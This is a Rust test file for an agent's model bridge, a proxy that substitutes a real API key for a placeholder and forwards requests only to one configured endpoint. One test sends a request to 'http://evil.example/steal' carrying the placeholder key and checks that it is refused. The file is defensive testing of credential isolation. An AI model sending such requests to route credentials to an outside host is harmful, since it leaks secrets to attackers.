//! The model bridge on its own: one endpoint, the placeholder replaced, nothing else reachable,
//! no key in what it answers.

use std::sync::{Arc, Mutex};

use orch_agent::bridge::{Bridge, PLACEHOLDER_KEY};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::UnixStream;

const KEY: &str = "sk-real-key-for-the-bridge-test";

/// An endpoint on loopback recording what arrives and answering `ok`.
async fn endpoint() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("listen");
    let url = format!("http://{}", listener.local_addr().expect("addr"));
    let seen = Arc::new(Mutex::new(Vec::new()));
    let record = Arc::clone(&seen);
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            let mut buf = vec![0; 65536];
            let mut got = Vec::new();
            // Read until the body announced by content-length has arrived.
            loop {
                let n = socket.read(&mut buf).await.unwrap_or(0);
                got.extend_from_slice(&buf[..n]);
                let text = String::from_utf8_lossy(&got).into_owned();
                let done = text.split_once("\r\n\r\n").is_some_and(|(head, body)| {
                    let length = head
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase()
                                .strip_prefix("content-length: ")
                                .map(str::to_owned)
                        })
                        .and_then(|v| v.trim().parse::<usize>().ok())
                        .unwrap_or(0);
                    body.len() >= length
                });
                if n == 0 || done {
                    break;
                }
            }
            record
                .lock()
                .expect("lock")
                .push(String::from_utf8_lossy(&got).into_owned());
            let _ = socket
                .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok")
                .await;
        }
    });
    (url, seen)
}

async fn send(bridge: &Bridge, request: &str) -> String {
    let mut stream = UnixStream::connect(bridge.dir().join(orch_process::BRIDGE_SOCKET))
        .await
        .expect("connect");
    stream.write_all(request.as_bytes()).await.expect("write");
    let mut reply = String::new();
    stream.read_to_string(&mut reply).await.expect("read");
    reply
}

#[tokio::test]
async fn the_placeholder_becomes_the_key_and_a_chunked_body_arrives_whole() {
    let (url, seen) = endpoint().await;
    let bridge = Bridge::open(&format!("{url}/v1"), Some(KEY.to_owned())).expect("open");
    assert_eq!(bridge.inside_url(), "http://127.0.0.1:41000/v1");
    let request = format!(
        "POST /v1/responses HTTP/1.1\r\nHost: 127.0.0.1:41000\r\nAuthorization: Bearer {PLACEHOLDER_KEY}\r\n\
         Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n"
    );
    let reply = send(&bridge, &request).await;
    assert!(reply.starts_with("HTTP/1.1 200"), "{reply}");
    assert!(reply.ends_with("ok"), "{reply}");
    let seen = seen.lock().expect("lock");
    assert_eq!(seen.len(), 1);
    assert!(
        seen[0].starts_with("POST /v1/responses HTTP/1.1"),
        "{}",
        seen[0]
    );
    assert!(
        seen[0].contains(&format!("authorization: Bearer {KEY}")),
        "{}",
        seen[0]
    );
    assert!(!seen[0].contains(PLACEHOLDER_KEY), "{}", seen[0]);
    assert!(seen[0].ends_with("hello world"), "{}", seen[0]);
}

#[tokio::test]
async fn another_host_cannot_be_named_and_errors_hold_no_key() {
    let (url, seen) = endpoint().await;
    let bridge = Bridge::open(&url, Some(KEY.to_owned())).expect("open");
    // An absolute target would be a way to another host: refused before anything is sent.
    let reply = send(
        &bridge,
        &format!("GET http://evil.example/steal HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\n\r\n"),
    )
    .await;
    assert!(reply.starts_with("HTTP/1.1 400"), "{reply}");
    assert!(seen.lock().expect("lock").is_empty());

    // An endpoint that does not answer: a 502 naming the problem, without the key.
    let dead = Bridge::open("http://127.0.0.1:9/v1", Some(KEY.to_owned())).expect("open");
    let reply = send(
        &dead,
        &format!("GET /v1/models HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\n\r\n"),
    )
    .await;
    assert!(reply.starts_with("HTTP/1.1 502"), "{reply}");
    assert!(reply.contains("did not answer"), "{reply}");
    assert!(!reply.contains(KEY), "{reply}");

    for bad in ["ftp://host/", "not a url", "http://:80/"] {
        assert!(Bridge::open(bad, None).is_err(), "{bad}");
    }
}
